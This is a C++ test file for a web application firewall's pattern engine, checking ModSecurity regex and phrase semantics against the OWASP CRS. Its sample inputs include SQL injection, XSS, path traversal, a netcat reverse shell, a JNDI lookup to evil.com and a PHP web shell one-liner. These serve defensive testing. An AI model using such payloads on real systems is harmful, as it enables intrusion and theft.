// Tests for moat/waf/patterns.h: placement, ModSecurity @rx/@pm semantics,
// captures, cache, and a brute-force cross-check over the whole OWASP CRS.
#include "moat/waf/patterns.h"

#define PCRE2_CODE_UNIT_WIDTH 8
#include <gtest/gtest.h>
#include <pcre2.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>
#include <unistd.h>

namespace moat::waf {
namespace {

namespace fs = std::filesystem;
using Mode = PatternSet::Mode;

PatternSpec rx(uint32_t id, std::string re) {
  PatternSpec s;
  s.id = id;
  s.kind = PatternSpec::Kind::kRegex;
  s.regex = std::move(re);
  return s;
}

PatternSpec pm(uint32_t id, std::vector<std::string> phrases) {
  PatternSpec s;
  s.id = id;
  s.kind = PatternSpec::Kind::kPhrases;
  s.phrases = std::move(phrases);
  return s;
}

std::shared_ptr<const PatternSet> mustBuild(const std::vector<PatternSpec>& specs,
                                            BuildStats* st = nullptr,
                                            const std::string& cache = "") {
  std::string err;
  auto set = PatternSet::build(specs, cache, &err, st);
  EXPECT_TRUE(set) << err;
  return set;
}

std::vector<uint32_t> scanIds(const PatternSet& set, std::string_view v) {
  PatternScratch scratch(set);
  std::vector<uint32_t> out;
  set.scan(v, scratch, out);
  return out;
}

bool hits(const PatternSet& set, uint32_t id, std::string_view v) {
  auto ids = scanIds(set, v);
  return std::find(ids.begin(), ids.end(), id) != ids.end();
}

struct TempDir {
  fs::path path;
  TempDir() {
    path = fs::temp_directory_path() /
           ("moat_patterns_test_" + std::to_string(getpid()) + "_" +
            std::to_string(std::chrono::steady_clock::now().time_since_epoch().count()));
    fs::create_directories(path);
  }
  ~TempDir() {
    std::error_code ec;
    fs::remove_all(path, ec);
  }
};

TEST(Patterns, Placement) {
  BuildStats st;
  auto set = mustBuild({rx(1, "abc"), rx(2, "(a)\\1"), rx(3, "(a)(?1)"), rx(4, ""),
                        pm(5, {"x"})},
                       &st);
  ASSERT_TRUE(set);
  EXPECT_EQ(set->mode(1), Mode::kExact);
  EXPECT_TRUE(set->mode(2) == Mode::kPrefilter || set->mode(2) == Mode::kPcreOnly);
  EXPECT_NE(set->mode(3), Mode::kExact);
  EXPECT_EQ(set->mode(4), Mode::kExact);  // ".*" with ALLOWEMPTY
  EXPECT_EQ(set->mode(5), Mode::kPhrases);
  EXPECT_EQ(set->mode(99), Mode::kUnknown);
  EXPECT_EQ(st.exact + st.prefilter + st.pcreOnly, 4u);
  EXPECT_EQ(st.phrases, 1u);
  EXPECT_EQ(set->size(), 5u);
  // Results are exact whatever the placement.
  EXPECT_TRUE(hits(*set, 2, "xxaa"));
  EXPECT_FALSE(hits(*set, 2, "xaxa"));
  EXPECT_TRUE(hits(*set, 3, "aa"));
  EXPECT_FALSE(hits(*set, 3, "ab"));
}

TEST(Patterns, DotallMultiline) {
  auto set = mustBuild({rx(1, "^b"), rx(2, "a.b"), rx(3, "a$"), rx(4, "^a$"), rx(5, "\\Ab"),
                        rx(6, "a\\z")});
  ASSERT_TRUE(set);
  EXPECT_TRUE(hits(*set, 1, "a\nb"));
  EXPECT_TRUE(hits(*set, 2, "a\nb"));
  EXPECT_TRUE(hits(*set, 3, "a\nb"));
  EXPECT_TRUE(hits(*set, 4, "x\na\ny"));
  EXPECT_FALSE(hits(*set, 5, "a\nb"));
  EXPECT_FALSE(hits(*set, 6, "a\n"));
  EXPECT_TRUE(hits(*set, 6, "ba"));
}

TEST(Patterns, CaselessOnlyWhenAsked) {
  auto set = mustBuild({rx(1, "select"), rx(2, "(?i)select"), rx(3, "(?i:un)ion")});
  ASSERT_TRUE(set);
  EXPECT_FALSE(hits(*set, 1, "SELECT"));
  EXPECT_TRUE(hits(*set, 2, "SeLeCt"));
  EXPECT_TRUE(hits(*set, 3, "UNion"));
  EXPECT_FALSE(hits(*set, 3, "UNION"));
}

TEST(Patterns, NulBytes) {
  auto set = mustBuild({rx(1, "a\\x00b"), rx(2, "b$"), pm(3, {std::string("x\0y", 3)})});
  ASSERT_TRUE(set);
  std::string v("za\0b", 4);
  EXPECT_TRUE(hits(*set, 1, v));
  EXPECT_TRUE(hits(*set, 2, v));
  EXPECT_TRUE(hits(*set, 3, std::string("X\0Y", 3)));
  EXPECT_FALSE(hits(*set, 3, "xy"));
}

TEST(Patterns, EmptyPatternAndEmptyValue) {
  auto set = mustBuild({rx(1, ""), rx(2, "^$"), rx(3, "a?"), rx(4, "a"), rx(5, "\\b"),
                        rx(6, "(a)\\1|^$"), pm(7, {"a"})});
  ASSERT_TRUE(set);
  auto e = scanIds(*set, "");
  EXPECT_EQ(e, (std::vector<uint32_t>{1, 2, 3, 6}));
  auto b = scanIds(*set, "b");
  EXPECT_EQ(b, (std::vector<uint32_t>{1, 3, 5}));
  auto nl = scanIds(*set, "x\n\ny");
  EXPECT_EQ(nl, (std::vector<uint32_t>{1, 2, 3, 5, 6}));
  EXPECT_EQ(scanIds(*set, "\n"), (std::vector<uint32_t>{1, 2, 3, 6}));
  EXPECT_EQ(scanIds(*set, " "), (std::vector<uint32_t>{1, 3}));
  PatternScratch s(*set);
  std::vector<std::string> caps{"stale"};
  EXPECT_TRUE(set->matchOne(1, "", s, &caps));
  EXPECT_TRUE(caps.empty());  // Rx::evaluate: empty param -> true, no captures
  EXPECT_TRUE(set->matchOne(1, "abc", s, &caps));
  EXPECT_TRUE(caps.empty());
  EXPECT_TRUE(set->matchOne(2, "", s, &caps));
  EXPECT_EQ(caps, (std::vector<std::string>{""}));
}

TEST(Patterns, PhrasesCaselessAndSpecialChars) {
  auto set = mustBuild({pm(1, {"SeLeCt", "union"}), pm(2, {"a.b", "f(", "c\\d", "[x]", "$"}),
                        pm(3, {"", "\xc3\xa9t\xc3\xa9"})});
  ASSERT_TRUE(set);
  EXPECT_TRUE(hits(*set, 1, "xx select yy"));
  EXPECT_TRUE(hits(*set, 1, "UNION"));
  EXPECT_FALSE(hits(*set, 1, "sel ect"));
  EXPECT_TRUE(hits(*set, 2, "A.B"));
  EXPECT_FALSE(hits(*set, 2, "axb"));
  EXPECT_TRUE(hits(*set, 2, "f(x)"));
  EXPECT_TRUE(hits(*set, 2, "C\\D"));
  EXPECT_FALSE(hits(*set, 2, "cd"));
  EXPECT_TRUE(hits(*set, 2, "[X]"));
  EXPECT_TRUE(hits(*set, 2, "5$"));
  // Empty phrases are ignored, bytes >= 0x80 never match (acmp quirk b).
  EXPECT_FALSE(hits(*set, 3, "abc"));
  EXPECT_FALSE(hits(*set, 3, "\xc3\xa9t\xc3\xa9"));
}

TEST(Patterns, PhraseCaptureAndAcmpQuirks) {
  auto set = mustBuild({pm(1, {"Select", "union"}), pm(2, {"abxz", "bq", "xy"}),
                        pm(3, {"abc", "b"})});
  ASSERT_TRUE(set);
  PatternScratch s(*set);
  std::vector<std::string> caps;
  ASSERT_TRUE(set->matchOne(1, "1 UNION SELECT", s, &caps));
  ASSERT_EQ(caps.size(), 1u);
  EXPECT_EQ(caps[0], "union");  // first match, rule spelling (quirk d)
  ASSERT_TRUE(set->matchOne(1, "x SELECT", s, &caps));
  EXPECT_EQ(caps[0], "Select");
  EXPECT_FALSE(set->matchOne(1, "nothing", s, &caps));
  // Quirk a: single-hop fail links miss "xy" here; scan agrees with matchOne.
  EXPECT_FALSE(set->matchOne(2, "abxy", s, &caps));
  EXPECT_FALSE(hits(*set, 2, "abxy"));
  EXPECT_TRUE(hits(*set, 2, "axy"));
  // Quirk d: the state's text ("ab"), not the phrase that ended ("b").
  ASSERT_TRUE(set->matchOne(3, "xabq", s, &caps));
  EXPECT_EQ(caps[0], "ab");
}

TEST(Patterns, RegexCaptures) {
  auto set = mustBuild({rx(1, "(\\d+)-(x)?(\\w+)"), rx(2, "(?i)(sel)(ect)")});
  ASSERT_TRUE(set);
  PatternScratch s(*set);
  Captures c;
  ASSERT_TRUE(set->matchOne(1, "id 12-ab 34-xcd", s, &c));
  EXPECT_EQ(c.count, 4);
  EXPECT_EQ(c.group[0], "12-ab");
  EXPECT_EQ(c.group[1], "12");
  EXPECT_FALSE(c.isSet(2));  // unset group: TX:2 untouched, as in ModSecurity
  EXPECT_EQ(c.group[3], "ab");
  std::vector<std::string> caps;
  ASSERT_TRUE(set->matchOne(2, "..SELect..", s, &caps));
  EXPECT_EQ(caps, (std::vector<std::string>{"SELect", "SEL", "ect"}));
  EXPECT_FALSE(set->matchOne(2, "nope", s, &caps));
  EXPECT_FALSE(set->matchOne(77, "x", s, &caps));
}

TEST(Patterns, ElevenGroupsKeepTen) {
  auto set = mustBuild({rx(1, "(a)(b)(c)(d)(e)(f)(g)(h)(i)(j)(k)")});
  ASSERT_TRUE(set);
  PatternScratch s(*set);
  Captures c;
  ASSERT_TRUE(set->matchOne(1, "abcdefghijk", s, &c));
  EXPECT_EQ(c.count, 10);
  EXPECT_EQ(c.group[9], "i");
}

TEST(Patterns, PcreErrorNamesId) {
  std::string err;
  BuildStats st;
  auto set = PatternSet::build({rx(1, "ok"), rx(42, "a(b")}, "", &err, &st);
  EXPECT_FALSE(set);
  EXPECT_NE(err.find("pattern id 42"), std::string::npos) << err;
  EXPECT_NE(err.find("missing closing parenthesis"), std::string::npos) << err;
  set = PatternSet::build({rx(1, "a"), pm(1, {"b"})}, "", &err, nullptr);
  EXPECT_FALSE(set);
  EXPECT_NE(err.find("duplicate"), std::string::npos) << err;
}

TEST(Patterns, MatchLimitCountsAsNoMatch) {
  // 1 is exact in Hyperscan (linear time, no limit involved); 3 has a
  // backreference, Hyperscan prefilters it in, PCRE2 hits the match limit at
  // offset 0 and the spec counts as not matching (ModSecurity does the same).
  auto set = mustBuild({rx(1, "^(a+)+$"), rx(2, "(a)\\1"), rx(3, "^(a+)+$|(a)\\2")});
  ASSERT_TRUE(set);
  EXPECT_EQ(set->mode(1), Mode::kExact);
  EXPECT_NE(set->mode(3), Mode::kExact);
  PatternScratch s(*set);
  std::vector<uint32_t> out;
  std::string v(40, 'a');
  v += "b";
  set->scan(v, s, out);
  EXPECT_EQ(out, (std::vector<uint32_t>{2}));
  EXPECT_EQ(s.pcreLimitHits, 1u);
  EXPECT_FALSE(set->matchOne(1, v, s));
  EXPECT_EQ(s.pcreLimitHits, 2u);
  EXPECT_EQ(s.pcreErrors, 0u);
}

TEST(Patterns, StandaloneRegex) {
  std::string err;
  auto r = Regex::compile("^a(.)c$", &err);
  ASSERT_TRUE(r) << err;
  PatternScratch s;
  Captures c;
  EXPECT_TRUE(r->match("x\na\nc", s, &c));
  EXPECT_EQ(c.group[1], "\n");
  EXPECT_FALSE(r->match("abd", s, nullptr));
  EXPECT_FALSE(Regex::compile("(", &err));
  EXPECT_NE(err.find("offset"), std::string::npos);
  auto empty = Regex::compile("", &err);
  ASSERT_TRUE(empty);
  EXPECT_TRUE(empty->match("", s, nullptr));
  std::vector<std::string> caps;
  EXPECT_TRUE(r->match("abc", &caps));
  EXPECT_EQ(caps, (std::vector<std::string>{"abc", "b"}));
  auto opt = Regex::compile("(x)?y", &err);
  ASSERT_TRUE(opt);
  EXPECT_TRUE(opt->match("zy", &caps));
  EXPECT_EQ(caps, (std::vector<std::string>{"y"}));  // rc = 1: group 1 unset, not reported
  EXPECT_FALSE(opt->match("zz", &caps));
}

TEST(Patterns, ScratchReuseAcrossSets) {
  auto a = mustBuild({rx(1, "a")});
  auto b = mustBuild({rx(2, "b"), rx(3, "(x)\\1"), pm(4, {"zz"})});
  PatternScratch s;
  std::vector<uint32_t> out;
  a->scan("ab", s, out);
  b->scan("abxxzz", s, out);
  EXPECT_EQ(out, (std::vector<uint32_t>{1, 2, 3, 4}));
  EXPECT_EQ(s.prepares, 2u);
}

TEST(Patterns, CacheRoundTripAndCorruption) {
  TempDir dir;
  std::vector<PatternSpec> specs = {rx(1, "abc"), rx(2, "(a)\\1"), rx(3, "(?i)x+y"),
                                    pm(4, {"foo", "b.r"}), rx(5, "")};
  BuildStats s1, s2, s3, s4;
  auto a = mustBuild(specs, &s1, dir.path.string());
  ASSERT_TRUE(a);
  EXPECT_FALSE(s1.cacheHit);
  EXPECT_FALSE(s1.cacheRejected);
  EXPECT_TRUE(s1.cacheWritten);
  auto b = mustBuild(specs, &s2, dir.path.string());
  ASSERT_TRUE(b);
  EXPECT_TRUE(s2.cacheHit);
  EXPECT_FALSE(s2.cacheWritten);
  EXPECT_EQ(s1.exact, s2.exact);
  EXPECT_EQ(s1.prefilter, s2.prefilter);
  for (const char* v : {"", "abc", "aa", "XXY", "FOO", "bxr", "b.r", "zzz\nabc"}) {
    EXPECT_EQ(scanIds(*a, v), scanIds(*b, v)) << v;
  }
  // Different specs -> different file.
  BuildStats s5;
  auto c = mustBuild({rx(1, "abd")}, &s5, dir.path.string());
  EXPECT_FALSE(s5.cacheHit);
  // Corrupt every cache file: rejected, rebuilt, rewritten, still correct.
  for (auto& f : fs::directory_iterator(dir.path)) {
    std::fstream io(f.path(), std::ios::in | std::ios::out | std::ios::binary);
    io.seekp(static_cast<std::streamoff>(fs::file_size(f.path()) / 2));
    io.put('\x5a');
    io.put('\xa5');
  }
  auto d = mustBuild(specs, &s3, dir.path.string());
  ASSERT_TRUE(d);
  EXPECT_FALSE(s3.cacheHit);
  EXPECT_TRUE(s3.cacheRejected);
  EXPECT_TRUE(s3.cacheWritten);
  EXPECT_EQ(scanIds(*d, "aa abc"), (std::vector<uint32_t>{1, 2, 5}));
  auto e = mustBuild(specs, &s4, dir.path.string());
  EXPECT_TRUE(s4.cacheHit);
  // Truncated file.
  for (auto& f : fs::directory_iterator(dir.path)) fs::resize_file(f.path(), 20);
  BuildStats s6;
  auto g = mustBuild(specs, &s6, dir.path.string());
  EXPECT_TRUE(s6.cacheRejected);
}

// Hand-picked constructs where Hyperscan and PCRE could disagree; scan()
// must agree with a direct PCRE2 run on every value, whatever the placement.
TEST(Patterns, TrickyConstructsAgreeWithPcre) {
  const std::vector<std::string> res = {
      "a\\sb", "a\\vb", "a\\hb", "a\\Rb", "a$", "a\\Z", "a\\z", "^b", "(?-m)^b", "(?-s)a.b",
      "[^a]", "\\xff", "(?i)\\xe9", "(?i)\\xc9", "\\w+\\d", "[[:space:]]x", "[[:^alpha:]]",
      "\\Qa.b\\E", "xa{0}y", "\\bfoo\\b", "\\Bo", "(?:)", "^", "$", "a*", "\\x00",
      "(?i:A)b", "a(?=b)", "(?<=a)b", "a(?!b)", "(a|ab)(c|bcd)(d*)", "^\\s*$", "\\A\\z",
      "[\\x80-\\xff]{2}", "(?s:.)\\n", "\\n$", "^$\\n", "a\\Z\\n?", "\\d{2,}?", "\\p{L}"};
  const std::vector<std::string> values = {
      "", "a b", "a\tb", "a\vb", "a\x0bb", "a\r\nb", "a\nb", "a\n", "a\n\n", "b", "\nb", "\xff",
      "\xe9", "\xc9", "ab", "ab2", "foo", "foobar", " foo ", "a.b", "axb", "xy", std::string("\0", 1),
      "Ab", "abcd", "abbcd", "  ", "\n", "\n\n", "\x80\x81", "\r\n", "12", "x x", "AB",
      "zzz\nabc\n"};
  std::vector<PatternSpec> specs;
  for (size_t i = 0; i < res.size(); ++i) specs.push_back(rx(static_cast<uint32_t>(i + 1), res[i]));
  auto set = mustBuild(specs);
  ASSERT_TRUE(set);
  pcre2_match_data* md = pcre2_match_data_create(32, nullptr);
  PatternScratch scratch(*set);
  for (const std::string& v : values) {
    std::vector<uint32_t> want, got;
    for (size_t i = 0; i < res.size(); ++i) {
      int ec;
      PCRE2_SIZE eo;
      pcre2_code* c = pcre2_compile(reinterpret_cast<PCRE2_SPTR>(res[i].data()), res[i].size(),
                                    PCRE2_DOTALL | PCRE2_MULTILINE, &ec, &eo, nullptr);
      ASSERT_TRUE(c) << res[i];
      if (pcre2_match(c, reinterpret_cast<PCRE2_SPTR>(v.data()), v.size(), 0, 0, md, nullptr) >= 0)
        want.push_back(static_cast<uint32_t>(i + 1));
      pcre2_code_free(c);
    }
    set->scan(v, scratch, got);
    EXPECT_EQ(got, want) << "value \"" << v << "\"";
  }
  pcre2_match_data_free(md);
}

TEST(Patterns, ConcurrentScans) {
  auto set = mustBuild({rx(1, "(?i)union\\s+select"), rx(2, "(a)\\1"), pm(3, {"etc/passwd"}),
                        rx(4, "<script")});
  ASSERT_TRUE(set);
  const std::vector<std::pair<std::string, std::vector<uint32_t>>> cases = {
      {"1 UNION  SELECT", {1}}, {"aa /ETC/passwd", {2, 3}}, {"<script>", {4}}, {"benign", {}}};
  std::vector<std::thread> threads;
  std::atomic<int> bad{0};
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&] {
      PatternScratch s(*set);
      std::vector<uint32_t> out;
      out.reserve(set->size());
      for (int i = 0; i < 2000; ++i) {
        const auto& [v, want] = cases[static_cast<size_t>(i) % cases.size()];
        out.clear();
        set->scan(v, s, out);
        if (out != want) ++bad;
      }
    });
  }
  for (auto& th : threads) th.join();
  EXPECT_EQ(bad.load(), 0);
}

// ---------------------------------------------------------------------------
// The whole CRS.

const char* kCrsDir = "/usr/share/modsecurity-crs/rules";

// Unquotes a double-quoted rule argument starting at s[pos] == '"'.
std::string unquote(const std::string& s, size_t pos) {
  std::string out;
  for (size_t i = pos + 1; i < s.size(); ++i) {
    if (s[i] == '\\' && i + 1 < s.size() && (s[i + 1] == '"' || s[i + 1] == '\\')) {
      out.push_back(s[++i]);
    } else if (s[i] == '"') {
      break;
    } else {
      out.push_back(s[i]);
    }
  }
  return out;
}

struct Crs {
  std::vector<PatternSpec> specs;
  size_t regexes = 0, phraseLists = 0;
  std::vector<std::string> rule;  // per spec: CRS rule id (chained: last id seen)
};

Crs loadCrs() {
  Crs crs;
  std::vector<fs::path> files;
  for (auto& f : fs::directory_iterator(kCrsDir)) {
    if (f.path().extension() == ".conf") files.push_back(f.path());
  }
  std::sort(files.begin(), files.end());
  uint32_t id = 1;
  for (const auto& file : files) {
    std::ifstream in(file);
    std::string line, joined;
    std::vector<std::string> logical;
    while (std::getline(in, line)) {
      if (!line.empty() && line.back() == '\\') {
        joined += line.substr(0, line.size() - 1);
        continue;
      }
      joined += line;
      logical.push_back(joined);
      joined.clear();
    }
    std::string lastRule = "?";
    for (const std::string& l : logical) {
      size_t first = l.find_first_not_of(" \t");
      if (first == std::string::npos || l[first] == '#') continue;
      if (size_t ip = l.find("\"id:"); ip != std::string::npos) {
        lastRule = l.substr(ip + 4, l.find_first_not_of("0123456789", ip + 4) - ip - 4);
      } else if (size_t ip2 = l.find(",id:"); ip2 != std::string::npos) {
        lastRule = l.substr(ip2 + 4, l.find_first_not_of("0123456789", ip2 + 4) - ip2 - 4);
      } else {
        lastRule += lastRule.back() == '+' ? "" : " chain+";
      }
      for (size_t pos = l.find("@"); pos != std::string::npos; pos = l.find("@", pos + 1)) {
        size_t q = pos;
        if (q > 0 && l[q - 1] == '!') --q;
        if (q == 0 || l[q - 1] != '"') continue;
        std::string arg = unquote(l, q - 1);
        size_t at = arg.find('@');
        std::string op = arg.substr(at + 1, arg.find_first_of(" \t", at) - at - 1);
        size_t sp = arg.find_first_of(" \t", at);
        std::string param = sp == std::string::npos ? "" : arg.substr(sp + 1);
        if (op == "rx") {
          crs.specs.push_back(rx(id++, param));
          ++crs.regexes;
        } else if (op == "pm") {
          std::istringstream ss(param);
          std::vector<std::string> ph;
          for (std::string w; ss >> w;) ph.push_back(w);
          crs.specs.push_back(pm(id++, ph));
          ++crs.phraseLists;
        } else if (op == "pmFromFile" || op == "pmf") {
          std::istringstream ss(param);
          std::vector<std::string> ph;
          for (std::string name; ss >> name;) {
            std::ifstream df(fs::path(kCrsDir) / name);
            for (std::string d; std::getline(df, d);) {
              size_t nb = d.find_first_not_of(" \t\r\n\v\f");
              if (nb == std::string::npos || d[nb] == '#') continue;
              ph.push_back(d);
            }
          }
          crs.specs.push_back(pm(id++, ph));
          ++crs.phraseLists;
        }
      }
      crs.rule.resize(crs.specs.size(), lastRule);
    }
  }
  return crs;
}

std::vector<std::string> samples() {
  std::vector<std::string> v = {
      "",
      "hello world",
      "John Smith",
      "/index.html",
      "q=shoes&size=42",
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
      "application/x-www-form-urlencoded",
      "1 UNION SELECT username, password FROM users--",
      "' or '1'='1",
      "admin'--",
      "1; DROP TABLE users",
      "1' AND SLEEP(5)#",
      "SELECT * FROM information_schema.tables",
      "1 or 1=1",
      "\" or \"\"=\"",
      "benchmark(10000000,md5(1))",
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "javascript:alert(document.cookie)",
      "<svg/onload=alert(1)>",
      "<iframe src=\"http://evil\">",
      "../../../../etc/passwd",
      "..%2f..%2fetc%2fpasswd",
      "/etc/shadow",
      "; cat /etc/passwd",
      "| nc -e /bin/sh 10.0.0.1 4444",
      "$(curl http://x)",
      "<?php system($_GET['c']); ?>",
      "php://input",
      "${jndi:ldap://evil.com/a}",
      "java.lang.Runtime",
      "http://169.254.169.254/latest/meta-data/",
      "sqlmap/1.5",
      "Nikto",
      "require('child_process').exec('ls')",
      "PHPSESSID=abc; path=/",
      "a\nb\r\nc",
      std::string("nul\0byte' or 1=1--", 18),
      "{\"a\":[1,2,3]}",
      "Invoke-Expression",
      "You have an error in your SQL syntax",
      "ORA-00933: SQL command not properly ended",
  };
  std::string big;
  for (int i = 0; i < 20; ++i) big += "lorem ipsum dolor sit amet, consectetur adipiscing ";
  v.push_back(big);
  return v;
}

TEST(PatternsCrs, WholeCrsMatchesBruteForce) {
  if (!fs::is_directory(kCrsDir)) GTEST_SKIP() << "no CRS at " << kCrsDir;
  Crs crs = loadCrs();
  ASSERT_GT(crs.regexes, 200u);
  TempDir dir;
  BuildStats st, st2;
  std::string err;
  auto set = PatternSet::build(crs.specs, dir.path.string(), &err, &st);
  ASSERT_TRUE(set) << err;
  auto cached = PatternSet::build(crs.specs, dir.path.string(), &err, &st2);
  ASSERT_TRUE(cached) << err;
  EXPECT_TRUE(st2.cacheHit);
  std::printf(
      "[ CRS      ] %zu regexes, %zu phrase lists: exact %zu, prefilter %zu, pcre-only %zu, "
      "phrases %zu (slow %zu); db %zu bytes\n"
      "[ CRS      ] build %.0f ms without cache, %.0f ms with cache\n",
      crs.regexes, crs.phraseLists, st.exact, st.prefilter, st.pcreOnly, st.phrases,
      st.phrasesSlow, st.databaseBytes, st.compileMs, st2.compileMs);
  std::printf("[ CRS      ] Hyperscan: %.0f ms in %u full compile(s)\n", st.hsCompileMs,
              st.hsCompileAttempts);
  for (const auto& n : st.notes) {
    uint32_t nid = static_cast<uint32_t>(std::strtoul(n.c_str() + 3, nullptr, 10));
    std::printf("[ CRS      ] rule %s, %s\n", crs.rule[nid - 1].c_str(), n.c_str());
  }
  EXPECT_EQ(st.exact + st.prefilter + st.pcreOnly, crs.regexes);
  EXPECT_GT(st.exact, crs.regexes * 9 / 10);

  // Brute force: every regex with plain PCRE2, every phrase list with
  // matchOne (acmp) and, for information, with naive substring search.
  std::vector<pcre2_code*> codes(crs.specs.size(), nullptr);
  for (size_t i = 0; i < crs.specs.size(); ++i) {
    if (crs.specs[i].kind != PatternSpec::Kind::kRegex) continue;
    const std::string re = crs.specs[i].regex.empty() ? ".*" : crs.specs[i].regex;
    int ec;
    PCRE2_SIZE eo;
    codes[i] = pcre2_compile(reinterpret_cast<PCRE2_SPTR>(re.data()), re.size(),
                             PCRE2_DOTALL | PCRE2_MULTILINE, &ec, &eo, nullptr);
    ASSERT_TRUE(codes[i]) << re;
  }
  pcre2_match_data* md = pcre2_match_data_create(64, nullptr);
  PatternScratch scratch(*set);
  size_t totalHits = 0, naiveDiff = 0;
  for (const std::string& v : samples()) {
    std::vector<uint32_t> want;
    for (size_t i = 0; i < crs.specs.size(); ++i) {
      const PatternSpec& s = crs.specs[i];
      bool m;
      if (codes[i]) {
        m = pcre2_match(codes[i], reinterpret_cast<PCRE2_SPTR>(v.data() ? v.data() : ""),
                        v.size(), 0, 0, md, nullptr) >= 0;
      } else {
        m = set->matchOne(s.id, v, scratch);
        bool naive = false;
        std::string lv = v;
        for (char& c : lv) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
        for (std::string p : s.phrases) {
          for (char& c : p) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
          if (!p.empty() && lv.find(p) != std::string::npos) naive = true;
        }
        if (naive != m) ++naiveDiff;
      }
      if (m) want.push_back(s.id);
    }
    std::vector<uint32_t> got, got2;
    set->scan(v, scratch, got);
    cached->scan(v, scratch, got2);
    EXPECT_EQ(got, want) << "value: " << v;
    EXPECT_EQ(got2, want) << "value (cached set): " << v;
    totalHits += got.size();
  }
  std::printf("[ CRS      ] %zu samples, %zu hits total, %zu phrase results where acmp != naive\n",
              samples().size(), totalHits, naiveDiff);
  EXPECT_EQ(scratch.pcreLimitHits, 0u);
  pcre2_match_data_free(md);
  for (auto* c : codes) pcre2_code_free(c);

  // Throughput on a 1 KiB benign value.
  std::string benign;
  while (benign.size() < 1024) benign += "The quick brown fox jumps over the lazy dog 0123456789. ";
  benign.resize(1024);
  std::vector<uint32_t> out;
  out.reserve(set->size());
  const int iters = 2000;
  auto t0 = std::chrono::steady_clock::now();
  for (int i = 0; i < iters; ++i) {
    out.clear();
    set->scan(benign, scratch, out);
  }
  double us = std::chrono::duration<double, std::micro>(std::chrono::steady_clock::now() - t0)
                  .count() / iters;
  std::printf("[ CRS      ] scan of 1 KiB benign value: %.1f us (%.1f MB/s), %zu hits\n", us,
              1024.0 / us, out.size());
}

}  // namespace
}  // namespace moat::waf
